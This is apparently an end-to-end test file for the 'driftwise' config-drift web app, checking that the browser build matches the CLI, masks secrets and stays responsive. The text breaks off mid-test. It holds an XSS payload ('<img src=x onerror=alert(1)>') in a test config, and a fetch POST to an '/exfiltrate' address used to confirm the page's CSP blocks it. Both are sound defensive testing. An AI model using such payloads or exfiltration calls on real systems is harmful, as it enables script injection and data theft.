// End-to-end tests of the built web app (dist/) in real headless Chromium, driven by playwright-core.
// Run through scripts/test.sh, which builds dist/ with trunk first.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile, mkdir, writeFile, mkdtemp, copyFile, rm } from 'node:fs/promises';
import { execFileSync, spawnSync } from 'node:child_process';
import { join, extname, resolve } from 'node:path';
import { tmpdir } from 'node:os';
import { chromium } from 'playwright-core';

const repo = resolve(import.meta.dirname, '../..');
const dist = join(repo, 'dist');
const out = join(repo, 'test-output', 'e2e');
const cli = process.env.DRIFTWISE_BIN ?? join(repo, 'target', 'debug', 'driftwise');
const classic = ['base_config.yaml', 'env1_config.yaml', 'env2_config.yaml'];
const classicPaths = classic.map((f) => join(repo, 'examples', 'classic', f));

const types = { '.html': 'text/html', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.svg': 'image/svg+xml', '.yaml': 'text/yaml' };
let server, origin, browser;

before(async () => {
  await mkdir(out, { recursive: true });
  server = createServer(async (req, res) => {
    const path = decodeURIComponent(new URL(req.url, 'http://x').pathname);
    // /embed/ is the portal example, with the built app at /embed/driftwise/ as its README says.
    const embed = join(repo, 'examples', 'embed');
    const [root, rel] = path.startsWith('/embed/driftwise/') ? [dist, path.slice('/embed/driftwise'.length)]
      : path.startsWith('/embed/') ? [embed, path.slice('/embed'.length)] : [dist, path];
    const file = join(root, rel === '/' ? 'index.html' : rel);
    if (!file.startsWith(root)) { res.writeHead(403).end(); return; }
    try {
      const body = await readFile(file);
      res.writeHead(200, { 'content-type': types[extname(file)] ?? 'application/octet-stream' }).end(body);
    } catch { res.writeHead(404).end(); }
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  origin = `http://127.0.0.1:${server.address().port}`;
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
});

after(async () => {
  await browser?.close();
  server?.close();
});

/** A scratch folder for one test, removed when the test ends. */
async function scratchDir(t, prefix) {
  const dir = await mkdtemp(join(tmpdir(), prefix));
  t.after(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

/** Runs the CLI on the classic example; it exits 1 because there is drift. */
function runCli(args, cwd = join(repo, 'examples', 'classic')) {
  try {
    execFileSync(cli, args, { cwd });
  } catch (e) {
    assert.equal(e.status, 1, `driftwise ${args.join(' ')} should report drift`);
    return e.stdout.toString();
  }
  assert.fail('the CLI should exit 1 on drift');
}

/** A fresh page that records every request and fails the test on any dialog (an XSS would open one). */
async function openApp(t, hash = '', options = {}, init = undefined) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, acceptDownloads: true, ...options });
  if (init) await context.addInitScript(init);
  const page = await context.newPage();
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('dialog', async (d) => { errors.push(`dialog opened: ${d.message()}`); await d.dismiss(); });
  await page.goto(`${origin}/${hash}`);
  await page.waitForSelector('body[data-ready=true]');
  t.after(async () => {
    assert.deepEqual(errors, [], 'no page errors or dialogs');
    const foreign = requests.filter((u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'));
    assert.deepEqual(foreign, [], 'no request left the page\'s own origin');
    await context.close();
  });
  page.requests = requests;
  return page;
}

async function download(page, label) {
  const [file] = await Promise.all([page.waitForEvent('download'), page.click(`[data-export="${label}"]`)]);
  return { name: file.suggestedFilename(), text: await readFile(await file.path(), 'utf8') };
}

test('the findings shown and exported match the CLI report for the same files', async (t) => {
  const page = await openApp(t);
  const firstRender = Number(await page.evaluate(() => document.body.dataset.firstRenderMs));
  console.log(`time to first render: ${firstRender} ms`);
  await writeFile(join(out, 'first-render-ms.txt'), `${firstRender}\n`);

  await page.setInputFiles('#file-input', classicPaths);
  await page.waitForSelector('.finding');

  const cliJson = runCli(['check', '--format', 'json', ...classic]);
  const expected = JSON.parse(cliJson);

  const shown = await page.$$eval('.finding', (els) => els.map((e) => [e.dataset.env, e.dataset.kind, e.dataset.path]));
  // Most severe first (the default sort), then by path; equal ones in the report's order.
  const rank = { critical: 3, high: 2, medium: 1, low: 0 };
  const bySeverity = expected.findings
    .map((f, i) => ({ f, i }))
    .sort((a, b) => rank[b.f.severity] - rank[a.f.severity] || (a.f.keyed_path < b.f.keyed_path ? -1 : a.f.keyed_path > b.f.keyed_path ? 1 : 0) || a.i - b.i)
    .map(({ f }) => [f.environment, f.kind, f.keyed_path]);
  assert.deepEqual(shown, bySeverity);
  // Each finding shows the resolution it has now (revert by default), and a choice shows at once.
  assert.deepEqual([...new Set(await page.locator('.finding .resolution-tag').allTextContents())], ['revert']);
  // Sorted by path instead.
  await page.selectOption('#sort', 'path');
  const byPath = await page.$$eval('.finding', (els) => els.map((e) => e.dataset.path));
  assert.deepEqual(byPath, [...byPath].sort());
  assert.equal(byPath.length, expected.findings.length);
  await page.selectOption('#sort', 'severity');
  assert.equal(await page.locator('.summary tbody tr').count(), expected.environments.length);

  // Open a finding: both files, both spans highlighted, the keyed path shown.
  await page.click('.finding[data-path="/database/host"][data-env="env2_config"] button');
  const detail = page.locator('.finding-detail');
  assert.equal(await detail.locator('.keyed').textContent(), '/database/host');
  assert.deepEqual(await detail.locator('mark').allTextContents(), ['"db.example.com"', '"db-prod.example.com"']);
  assert.deepEqual(await detail.locator('.loc').allTextContents(), ['base_config.yaml:5:9', 'env2_config.yaml:6:9']);
  // Inside the changed value, the word that changed; and the value in every environment.
  assert.deepEqual(await detail.locator('mark .word').allTextContents(), ['-prod']);
  assert.deepEqual(await detail.locator('table.across th').allTextContents(), ['base', 'env1_config', 'env2_config']);
  assert.deepEqual(await detail.locator('table.across td').allTextContents(), ['"db.example.com"', '"db-dev.example.com"', '"db-prod.example.com"']);
  await page.screenshot({ path: join(out, 'classic.png'), fullPage: true });

  // Keyboard: j moves to the next finding in the list's order.
  const paths = await page.$$eval('.finding', (els) => els.map((e) => `${e.dataset.env} ${e.dataset.path}`));
  const next = paths[paths.indexOf('env2_config /database/host') + 1];
  await page.keyboard.press('j');
  const selected = page.locator('.finding.selected');
  assert.equal(`${await selected.getAttribute('data-env')} ${await selected.getAttribute('data-path')}`, next);
  await page.check('.resolution input[value=skip]');
  assert.equal(await page.locator('.finding.selected .resolution-tag').textContent(), 'skip');
  await page.check('.resolution input[value=revert]');

  const json = await download(page, 'JSON');
  assert.equal(json.name, 'driftwise-report.json');
  assert.equal(json.text, cliJson, 'the exported JSON is exactly the CLI\'s report');
  const markdown = await download(page, 'Markdown');
  assert.equal(markdown.text, runCli(['check', '-f', 'markdown', ...classic]));
  assert.match(markdown.text, /^# Drift report\n/);
  assert.match(markdown.text, /\| changed \| high \| `\/database\/host` \| `"db.example.com"` \| `"db-prod.example.com"` \|/);
  const htmlReport = await download(page, 'HTML');
  assert.equal(htmlReport.text, runCli(['check', '-f', 'html', ...classic]));
  assert.match(htmlReport.text, /^<!doctype html>/);
  assert.doesNotMatch(htmlReport.text, /<script|https?:\/\//);
  for (const file of [json, markdown, htmlReport]) await writeFile(join(out, file.name), file.text);
  assert.ok(!page.requests.some((u) => u.includes('desired-worker')), 'a plain comparison never loads the desired-state worker');
});

test('the start-up example loads from the address and the Kubernetes example renders', async (t) => {
  const page = await openApp(t, '#example=1');
  await page.waitForSelector('.finding');
  assert.deepEqual(await page.locator('.summary tbody tr').evaluateAll((rs) => rs.map((r) => r.dataset.env)), ['staging', 'prod']);
  assert.equal(await page.locator('.matrix tbody tr').count(), 13);
  // Findings come grouped by the object they are in, with paths below it.
  const heads = await page.locator('.finding-list .group-head .resource').allTextContents();
  assert.ok(heads.includes('Deployment shop/web'), heads.join(', '));
  assert.equal(new Set(heads).size, heads.length, 'each object once');
  const first = page.locator('.finding').first();
  assert.ok((await first.getAttribute('data-path')).startsWith('[kind='));
  assert.ok((await first.locator('code.path').textContent()).startsWith('/'));
  await page.click('.finding[data-kind="removed"] button');
  // The detail is drawn after the click's message is handled, not always before click() returns.
  await page.locator('.finding-detail', { hasText: 'Not in prod.' }).waitFor({ timeout: 5000 });
  await page.screenshot({ path: join(out, 'kubernetes.png'), fullPage: true });
});

test('config values are text everywhere: page and exported HTML', async (t) => {
  const page = await openApp(t);
  const dir = await scratchDir(t, 'driftwise-xss-');
  const payload = '<img src=x onerror=alert(1)>';
  await writeFile(join(dir, 'base.yaml'), 'banner: hello\n');
  await writeFile(join(dir, 'prod.yaml'), `banner: "${payload}"\n"<b>key</b>": 1\n`);
  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'prod.yaml')]);
  await page.waitForSelector('.finding');
  assert.equal(await page.locator('img').count(), 0);
  assert.equal(await page.locator('b').count(), 0);
  assert.match(await page.locator('.finding-list').textContent(), /<img src=x onerror=alert\(1\)>/);
  const htmlReport = await download(page, 'HTML');
  assert.ok(htmlReport.text.includes('&lt;img src=x onerror=alert(1)&gt;'));
  assert.ok(!htmlReport.text.includes(payload));
  // The exported page itself runs nothing: open it and look for the same.
  const exported = await openApp(t);
  await exported.setContent(htmlReport.text);
  assert.equal(await exported.locator('img').count(), 0);
});

test('outside connections are refused by the page itself', async (t) => {
  const page = await openApp(t);
  const outcome = await page.evaluate(async () => {
    try { await fetch('http://192.0.2.1/exfiltrate', { method: 'POST', body: 'x' }); return 'sent'; } catch (e) { return 'blocked'; }
  });
  assert.equal(outcome, 'blocked');
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'self'/);
});

test('bad input gives file:line:col, and a 20 MB file keeps the page responsive with progress shown', async (t) => {
  const page = await openApp(t);
  const dir = await scratchDir(t, 'driftwise-big-');
  await writeFile(join(dir, 'base.yaml'), 'a: 1\n');
  await writeFile(join(dir, 'broken.yaml'), 'a: 1\nb: [2, 3\nc: 4\n');
  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'broken.yaml')]);
  const error = await page.waitForSelector('.error');
  assert.match(await error.textContent(), /^broken\.yaml:\d+:\d+: /);
  await page.click('button:has-text("Remove all")');

  // About 20 MB: 4,100 services x 60 settings.
  const lines = ['services:'];
  for (let s = 0; s < 4100; s++) {
    lines.push(`  svc-${s}:`);
    for (let p = 0; p < 60; p++) lines.push(`    setting_${p}: "value-${s}-${p}-${'x'.repeat(50)}"`);
  }
  const big = lines.join('\n') + '\n';
  assert.ok(big.length > 20e6, `${big.length} bytes`);
  await writeFile(join(dir, 'base.yaml'), big);
  await writeFile(join(dir, 'prod.yaml'), big.replace('value-4099-59-', 'CHANGED-'));
  // While the worker parses, the page still answers: the progress shows, and a dialog opens. The
  // click is made inside the page the moment the progress shows (a round trip from here could
  // come after the check is done), and both are looked at two frames later.
  const answered = page.evaluate(() => new Promise((resolve) => {
    const observer = new MutationObserver(() => {
      if (!document.querySelector('.progress')) return;
      observer.disconnect();
      [...document.querySelectorAll('button')].find((b) => b.textContent.includes('Paste text')).click();
      requestAnimationFrame(() => requestAnimationFrame(() => resolve({
        dialog: document.querySelectorAll('.dialog').length,
        progress: document.querySelectorAll('.progress').length,
      })));
    });
    observer.observe(document.body, { subtree: true, childList: true });
  }));
  await page.setInputFiles('#file-input', [join(dir, 'base.yaml'), join(dir, 'prod.yaml')]);
  assert.deepEqual(await answered, { dialog: 1, progress: 1 }, 'the dialog opened while the check was still running');
  await page.click('.dialog button:has-text("Cancel")');
  await page.waitForSelector('.finding', { timeout: 120_000 });
  assert.deepEqual(await page.$$eval('.finding', (els) => els.map((e) => e.dataset.path)), ['/services/svc-4099/setting_59']);
});

test('a provider template is rendered per environment and validated, as driftwise check --template does', async (t) => {
  const page = await openApp(t, '#example=4');
  await page.waitForSelector('.violation');
  const multi = join(repo, 'examples', 'multicloud');
  const args = ['check', '-f', 'json', '--template', 'app.yaml.j2', '--vars', 'vars.yaml', '--rules', 'rules.yaml',
    '--schema', 'schema.json', '--provider', 'aws', 'live/aws/dev.yaml', 'live/aws/prod.yaml'];
  let cliJson;
  try { execFileSync(cli, args, { cwd: multi }); } catch (e) { assert.equal(e.status, 1); cliJson = e.stdout.toString(); }
  const exported = JSON.parse((await download(page, 'JSON')).text);
  assert.deepEqual(exported, JSON.parse(cliJson), 'the page reports what the CLI reports');
  assert.equal(await page.locator('#provider').inputValue(), 'aws');
  assert.ok(page.requests.some((u) => u.endsWith('/driftwise-desired-worker_bg.wasm')), 'templates and validation load their worker on demand');

  // The region typo: listed with its place and suggestion, and shown in the source.
  const region = page.locator('.violation[data-rule="aws/region"]');
  assert.match(await region.textContent(), /'us-esat-1' is not an AWS region — did you mean 'us-east-1'\?/);
  assert.equal(await region.locator('.loc').textContent(), 'live/aws/prod.yaml:10:11');
  await region.click();
  assert.deepEqual(await page.locator('.violation-detail mark').allTextContents(), ['us-esat-1']);

  // A drift finding against the rendered base names the template line behind the value.
  await page.click('.finding[data-path="/app/replicas"][data-env="prod"] button');
  const detail = page.locator('.finding-detail');
  assert.deepEqual(await detail.locator('mark').allTextContents(), ['6', '4']);
  assert.equal(await detail.locator('.origin').textContent(), 'from app.yaml.j2:8:16');
  // The plan reverts each environment's file to the template rendered for it, as driftwise plan
  // and apply --dry-run do (the region typo fixed with it).
  await page.waitForSelector('.plan [data-download="diff"]');
  const [patch] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="diff"]')]);
  const fromPage = await readFile(await patch.path(), 'utf8');
  const scratch = await scratchDir(t, 'driftwise-template-plan-');
  execFileSync(cli, ['plan', ...args.slice(3), '--out', join(scratch, 'plan.json')], { cwd: multi });
  const dryRun = spawnSync(cli, ['apply', join(scratch, 'plan.json'), '--dry-run', '--approve'], { cwd: multi, encoding: 'utf8' });
  assert.equal(dryRun.status, 0, dryRun.stderr);
  assert.equal(fromPage, dryRun.stdout);
  assert.match(fromPage, /-  region: us-esat-1\n\+  region: us-east-1\n/);
  assert.equal(await page.locator('.plan .not-applied').count(), 0, 'every revert is carried out');
  await page.screenshot({ path: join(out, 'multicloud.png'), fullPage: true });

  // Another provider: the template renders its Azure section and Azure's rules apply.
  await page.selectOption('#provider', 'azure');
  await page.waitForSelector('.violation[data-rule="azure/location"]');
  assert.equal(await page.locator('.violation[data-rule="aws/region"]').count(), 0);
  await page.click('.finding[data-path="/cloud/region"][data-env="prod"] button');
  assert.deepEqual(await page.locator('.finding-detail mark').allTextContents(), ['westeurope', 'us-esat-1']);

  // Variables edited in the page re-render the desired state.
  await page.click('.vars summary');
  await page.fill('#vars-editor', (await page.inputValue('#vars-editor')).replace('replicas: 6', 'replicas: 4'));
  await page.click('text=Apply variables');
  await page.waitForFunction(() => !document.querySelector('.finding[data-path="/app/replicas"][data-env="prod"]'));

  // A provider profile file adds a provider to the picker; its rule replaces the built-in one.
  const dir = await scratchDir(t, 'driftwise-profile-');
  const profile = join(dir, 'corp.profile.yaml');
  await writeFile(profile, 'name: corp\nextends: aws\nvars: {regions: [us-east-1]}\nrules:\n  - name: region\n    at: /**/region\n    one_of: $regions\n    message: "{value} is not approved"\n');
  await page.setInputFiles('#file-input', [profile]);
  await page.selectOption('#provider', 'corp');
  await page.waitForSelector('.violation[data-rule="corp/region"]');
  assert.match(await page.locator('.violation[data-rule="corp/region"]').first().textContent(), /us-esat-1 is not approved/);
  assert.equal(await page.locator('.violation[data-rule="aws/region"]').count(), 0);
});

test('a policy in the page classifies exactly as the CLI does', async (t) => {
  const page = await openApp(t, '#example=3');
  await page.waitForSelector('.finding[data-expected=true]');
  const exported = JSON.parse((await download(page, 'JSON')).text);
  const cli = JSON.parse(runCli(['check', '--format', 'json', '--policy', '../policies/classic.yaml', ...classic]));
  assert.equal(cli.policy.file, '../policies/classic.yaml');
  cli.policy.file = 'driftwise.yaml';
  assert.deepEqual(exported, cli);
  assert.match(await page.locator('.stale').textContent(), /expected\[3\] \(line 10\)/);
  await page.click('.finding[data-path="/database/host"][data-env="env2_config"] button');
  assert.match(await page.locator('.expected-note').textContent(), /one database per environment/);
  await page.screenshot({ path: join(out, 'policy.png'), fullPage: true });
});

test('the plan in the page downloads the same patch driftwise apply makes', async (t) => {
  const page = await openApp(t, '#example=0');
  await page.waitForSelector('.plan');
  const [file] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="diff"]')]);
  const fromPage = await readFile(await file.path(), 'utf8');
  const dir = await scratchDir(t, 'driftwise-plan-');
  const planPath = join(dir, 'plan.json');
  execFileSync(cli, ['plan', ...classic, '--out', planPath], { cwd: join(repo, 'examples', 'classic') });
  const fromCli = execFileSync(cli, ['apply', planPath, '--dry-run', '--approve'], { cwd: join(repo, 'examples', 'classic') }).toString();
  assert.equal(fromPage, fromCli);
  assert.match(fromPage, /^diff --git a\/env1_config.yaml b\/env1_config.yaml\n/m);
  const [reconciled] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="file:env2_config.yaml"]')]);
  const text = await readFile(await reconciled.path(), 'utf8');
  assert.match(text, /^# production\n/, 'comments kept');
  assert.match(text, /host: "db.example.com"/);
  await page.screenshot({ path: join(out, 'plan.png'), fullPage: true });
});

test('no secret value shows in the page, an export or the plan, whichever finding is open, until revealed', async (t) => {
  const planted = ['base-db-pass-0001', 'prod-db-pass-0002', 'prod-api-token-0003', 'cHJvZC1jZXJ0LTAwMDQ=',
    'prod-json-pass-0005', 'prod-stripe-key-0006'];
  const noSecret = (where, text) => {
    for (const secret of planted) assert.ok(!text.includes(secret), `${where} shows ${secret}`);
  };
  const page = await openApp(t);
  /** Everything a reader could see or copy: the text, and what inputs and text areas hold. */
  const visible = () => page.evaluate(() => document.body.innerText + [...document.querySelectorAll('input, textarea, select')].map((e) => e.value).join('\n'));
  // Chromium now and then drops one of many downloads in a row from a page (its limit on automatic
  // downloads); a second click gets it.
  const downloadOf = async (selector) => {
    for (let attempt = 0; ; attempt++) {
      const [file] = await Promise.all([
        page.waitForEvent('download', { timeout: 5000 }).catch((e) => { if (attempt === 2) throw e; }),
        page.click(selector),
      ]);
      if (file) return readFile(await file.path(), 'utf8');
    }
  };
  for (const [dir, files] of [['secrets', ['base.yaml', 'prod.yaml']], ['secrets-json', ['base.json', 'prod.json']]]) {
    if (await page.locator('text=Remove all').count()) await page.click('text=Remove all');
    await page.setInputFiles('#file-input', files.map((f) => join(repo, 'tests', 'cases', dir, f)));
    await page.waitForSelector('.finding');
    await page.waitForSelector('.plan');
    const findings = page.locator('.finding button');
    const count = await findings.count();
    assert.ok(count >= 3, `${dir}: ${count} findings`);
    for (let i = 0; i < count; i++) {
      await findings.nth(i).click();
      await page.waitForSelector('.finding-detail');
      noSecret(`${dir}, finding ${i} open`, await visible());
    }
    assert.ok((await page.locator('.finding-detail mark').allTextContents()).length > 0);
    for (const label of ['JSON', 'Markdown', 'HTML']) noSecret(`${dir}: the ${label} export`, await downloadOf(`[data-export="${label}"]`));
    for (const kind of ['plan', 'diff', 'json-patch', 'merge-patch']) {
      if (await page.locator(`[data-download="${kind}"]:disabled`).count()) continue;
      noSecret(`${dir}: the ${kind} download`, await downloadOf(`[data-download="${kind}"]`));
    }
    for (const name of await page.locator('[data-download^="file:"]').evaluateAll((bs) => bs.map((b) => b.dataset.download))) {
      noSecret(`${dir}: ${name}`, await downloadOf(`[data-download="${name}"]`));
    }
    assert.match(await page.locator('.masked-note').textContent(), /Reveal secret values/);
  }
  await page.screenshot({ path: join(out, 'secrets-masked.png'), fullPage: true });

  // The explicit switch shows them: in the source view and in the patch, which then applies.
  await page.check('#reveal-secrets');
  await page.waitForFunction(() => document.body.innerText.includes('prod-json-pass-0005'));
  const diff = await downloadOf('[data-download="diff"]');
  assert.ok(diff.includes('prod-json-pass-0005'), diff);
  assert.equal(await page.locator('.masked-note').count(), 0);
});

test('the plan view says, before any download, that driftwise apply would refuse a change that breaks the rules', async (t) => {
  const page = await openApp(t);
  const gate = join(repo, 'tests', 'gate');
  await page.setInputFiles('#file-input', ['base.yaml', 'prod.yaml', 'schema.json', 'rules.yaml'].map((f) => join(gate, f)));
  const blocked = page.locator('.verdict[data-verdict="blocked"]');
  await blocked.waitFor();
  const dir = await scratchDir(t, 'driftwise-gate-');
  for (const f of ['base.yaml', 'prod.yaml', 'schema.json', 'rules.yaml']) await writeFile(join(dir, f), await readFile(join(gate, f)));
  execFileSync(cli, ['plan', 'base.yaml', 'prod.yaml', '--schema', 'schema.json', '--rules', 'rules.yaml', '--out', 'plan.json'], { cwd: dir });
  let cli_check;
  try { execFileSync(cli, ['apply', 'plan.json', '--approve', '--check'], { cwd: dir, stdio: 'pipe' }); } catch (e) { cli_check = e; }
  assert.equal(cli_check?.status, 1, 'the CLI refuses it too');
  const summary = cli_check.stdout.toString().split('\n').find((l) => l.startsWith('validation of '));
  assert.match(await blocked.textContent(), new RegExp(summary.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')));
  const fromCli = cli_check.stderr.toString().split('\n').filter((l) => /^prod\.yaml:\d+:\d+: /.test(l))
    .map((l) => l.replace(/^(prod\.yaml:\d+:\d+): /, '$1 '));
  assert.deepEqual(await blocked.locator('li').allTextContents(), fromCli);
  await page.screenshot({ path: join(out, 'verdict.png'), fullPage: true });

  // Skipping the reverts that break the rules leaves a change the rules accept.
  for (const path of ['/port', '/replicas']) {
    await page.click(`.finding[data-path="${path}"] button`);
    await page.check('input[name="resolution"][value="skip"]');
  }
  await page.locator('.verdict[data-verdict="valid"]').waitFor();
  assert.match(await page.locator('.verdict').textContent(), /the change adds no violation/);
});

test('an included policy dropped with its policy composes as in the CLI, and each finding says why', async (t) => {
  const dir = await scratchDir(t, 'driftwise-include-');
  await mkdir(join(dir, 'org'));
  await writeFile(join(dir, 'org', 'baseline.yaml'), '# the organisation\nseverity:\n  - path: /database/**\n    level: critical\nexpected:\n  - path: /app_settings/name\n    reason: builds are labelled\n');
  await writeFile(join(dir, 'driftwise.yaml'), 'include: [org/baseline.yaml]\nseverity:\n  - path: /database/host\n    level: low\n');
  for (const f of classic) await writeFile(join(dir, f), await readFile(join(repo, 'examples', 'classic', f)));
  let cliJson;
  try { execFileSync(cli, ['check', '-f', 'json', ...classic], { cwd: dir }); } catch (e) { cliJson = e.stdout.toString(); }
  const fromCli = JSON.parse(cliJson);
  assert.ok(fromCli.findings.some((f) => f.severity_rule?.file === 'org/baseline.yaml'), 'the CLI read the include');

  const page = await openApp(t);
  await page.setInputFiles('#file-input', [join(dir, 'driftwise.yaml'), join(dir, 'org', 'baseline.yaml'), ...classic.map((f) => join(dir, f))]);
  await page.waitForSelector('.finding[data-expected=true]');
  assert.equal(await page.locator('select[aria-label="Role of baseline.yaml"]').inputValue(), 'included-policy');
  const exported = JSON.parse((await download(page, 'JSON')).text);
  assert.deepEqual(exported.findings.map((f) => [f.keyed_path, f.severity, f.severity_rule?.file ?? null, f.expected?.rule.file ?? null]),
    fromCli.findings.map((f) => [f.keyed_path, f.severity, f.severity_rule?.file ?? null, f.expected?.rule.file ?? null]));

  // Why: the including file's rule decided the host's severity, before the baseline's.
  await page.click('.finding[data-path="/database/host"][data-env="env2_config"] button');
  await page.click('.why summary');
  const why = await page.locator('.why li').allTextContents();
  // Each rule is named as its own file numbers it.
  assert.ok(why.includes('severity[0] at driftwise.yaml:3 applies, decides'), why.join('\n'));
  assert.ok(why.includes('severity[0] at org/baseline.yaml:3 applies, but an earlier rule decided'), why.join('\n'));
  assert.ok(why.includes('expected[0] at org/baseline.yaml:6 no: path /app_settings/name does not match'), why.join('\n'));
});

test('INI, .env and .properties files are compared in the page as the CLI compares them', async (t) => {
  const page = await openApp(t);
  for (const [dir, ext] of [['flat-ini', 'ini'], ['flat-env', 'env'], ['flat-properties', 'properties']]) {
    if (await page.locator('text=Remove all').count()) await page.click('text=Remove all');
    const files = [`base.${ext}`, `prod.${ext}`];
    const caseDir = join(repo, 'tests', 'cases', dir);
    await page.setInputFiles('#file-input', files.map((f) => join(caseDir, f)));
    await page.waitForSelector('.finding');
    let cliJson;
    try { execFileSync(cli, ['check', '-f', 'json', ...files], { cwd: caseDir }); } catch (e) { cliJson = e.stdout.toString(); }
    const exported = JSON.parse((await download(page, 'JSON')).text);
    assert.deepEqual(exported, JSON.parse(cliJson), dir);
    assert.ok(!(await page.evaluate(() => document.body.innerText)).includes(`prod-${ext === 'properties' ? 'prop' : ext}-pass`), `${dir}: the password stays masked`);
  }
});

test('files saved by a Windows editor (a byte-order mark, CRLF) are compared as the CLI does, and the page\'s patched file keeps both', async (t) => {
  const dir = await scratchDir(t, 'driftwise-windows-');
  const windows = (text) => '\ufeff' + text.replaceAll('\n', '\r\n');
  await writeFile(join(dir, 'base.json'), '{\n  "Logging": { "Level": "Warning" },\n  "Pool": 10\n}\n');
  await writeFile(join(dir, 'prod.json'), windows('{\n  "Logging": { "Level": "Debug" }\n}\n'));
  const page = await openApp(t);
  await page.setInputFiles('#file-input', ['base.json', 'prod.json'].map((f) => join(dir, f)));
  await page.waitForSelector('.finding');
  let cliJson;
  try { execFileSync(cli, ['check', '-f', 'json', 'base.json', 'prod.json'], { cwd: dir }); } catch (e) { cliJson = e.stdout.toString(); }
  const exported = JSON.parse((await download(page, 'JSON')).text);
  assert.deepEqual(exported, JSON.parse(cliJson), 'the same findings at the same lines and columns');
  await page.waitForSelector('.plan');
  const [reconciled] = await Promise.all([page.waitForEvent('download'), page.click('[data-download="file:prod.json"]')]);
  const text = await readFile(await reconciled.path(), 'utf8');
  assert.ok(text.startsWith('\ufeff'), JSON.stringify(text));
  assert.ok(!/[^\r]\n/.test(text), `every line ends in CRLF: ${JSON.stringify(text)}`);
  // The file driftwise check --reconcile writes, byte for byte.
  execFileSync(cli, ['check', 'base.json', 'prod.json', '--reconcile', '--approve', '--no-backup'], { cwd: dir });
  assert.equal(text, await readFile(join(dir, 'prod.json'), 'utf8'));
});

test('network device configurations are compared as the CLI compares them, and the page downloads its device commands', async (t) => {
  const page = await openApp(t);
  const dir = join(repo, 'examples', 'network');
  for (const files of [['router1-intended.cfg', 'router1-running.cfg'], ['fw1-intended.conf', 'fw1-running.conf']]) {
    if (await page.locator('text=Remove all').count()) await page.click('text=Remove all');
    await page.setInputFiles('#file-input', files.map((f) => join(dir, f)));
    await page.waitForSelector('.finding');
    await page.waitForSelector('.plan');
    let cliJson;
    try { execFileSync(cli, ['check', '-f', 'json', ...files], { cwd: dir }); } catch (e) { cliJson = e.stdout.toString(); }
    const exported = JSON.parse((await download(page, 'JSON')).text);
    assert.deepEqual(exported, JSON.parse(cliJson), files[0]);
    const work = await scratchDir(t, 'driftwise-net-');
    const planPath = join(work, 'plan.json');
    execFileSync(cli, ['plan', ...files, '--out', planPath], { cwd: dir });
    for (const [button, format] of [['commands', 'commands'], ['rollback', 'rollback']]) {
      const [file] = await Promise.all([page.waitForEvent('download'), page.click(`[data-download="${button}"]`)]);
      const fromPage = await readFile(await file.path(), 'utf8');
      const fromCli = execFileSync(cli, ['apply', planPath, '--dry-run', '--approve', '--format', format], { cwd: dir, stdio: ['ignore', 'pipe', 'ignore'] }).toString();
      assert.equal(fromPage, fromCli, `${files[0]} ${format}`);
      assert.ok(fromPage.length > 0);
    }
    const text = await page.evaluate(() => document.body.innerText);
    for (const secret of ['Str0ngRO', '$1$zZzZ$tmpTmpTmpTmpTmpTmpTm1/', '$6$tmp$tmpTmpTmpTmpTmpTmpTmp.']) {
      assert.ok(!text.includes(secret), `${files[0]}: ${secret} stays masked`);
    }
    // Device reverts are not listed as undone: the commands carry them.
    assert.equal(await page.locator('.not-applied li[data-reason="device_running"]').count(), 0);
    // The resolutions carry the network teams' names beside the generic ones.
    await page.locator('.finding button').first().click();
    const names = await page.locator('.resolution .network-name').allTextContents();
    assert.deepEqual(names, [' · override (push the intended configuration)', ' · discover and sync']);
  }
  await page.screenshot({ path: join(out, 'network.png'), fullPage: true });
});

test('the page offers the Kubernetes preset for live objects, and with it reports what driftwise check --preset kubernetes does', async (t) => {
  const page = await openApp(t);
  const dir = join(repo, 'tests', 'cases', 'kubernetes-live');
  await page.setInputFiles('#file-input', ['base.yaml', 'live.yaml'].map((f) => join(dir, f)));
  await page.waitForSelector('.finding');
  assert.equal(await page.locator('#kubernetes-preset').isChecked(), false);
  const noisy = await page.locator('.finding').count();
  await page.check('#kubernetes-preset');
  await page.waitForFunction((before) => document.querySelectorAll('.finding').length < before, noisy);
  let cliJson;
  try { execFileSync(cli, ['check', '--no-policy', '--preset', 'kubernetes', '-f', 'json', 'base.yaml', 'live.yaml'], { cwd: dir }); } catch (e) { cliJson = e.stdout.toString(); }
  const expected = JSON.parse(cliJson);
  assert.equal(await page.locator('.finding').count(), expected.findings.length);
  assert.equal(expected.findings.length, 3, 'the three real drifts');
  assert.deepEqual(JSON.parse((await download(page, 'JSON')).text), expected);
});

/** axe-core's WCAG 2.1 A and AA rules on the page as it is, after a finding is opened. */
async function axeViolations(page) {
  const source = await readFile(join(import.meta.dirname, 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
  // The page's CSP refuses inline scripts: the source is evaluated through the debugger instead.
  await page.evaluate(source);
  return page.evaluate(async () => {
    const result = await window.axe.run(document, { runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa'] } });
    return result.violations.map((v) => ({ id: v.id, impact: v.impact, nodes: v.nodes.length, first: v.nodes[0]?.target.join(' '), why: v.nodes[0]?.failureSummary }));
  });
}

test('nothing overflows the page sideways at 1440, 1024 and 390 px, the findings and the detail are on a laptop\'s first screen, and the phone width passes axe-core too', async (t) => {
  const wide = {};
  for (const width of [1440, 1024, 390]) {
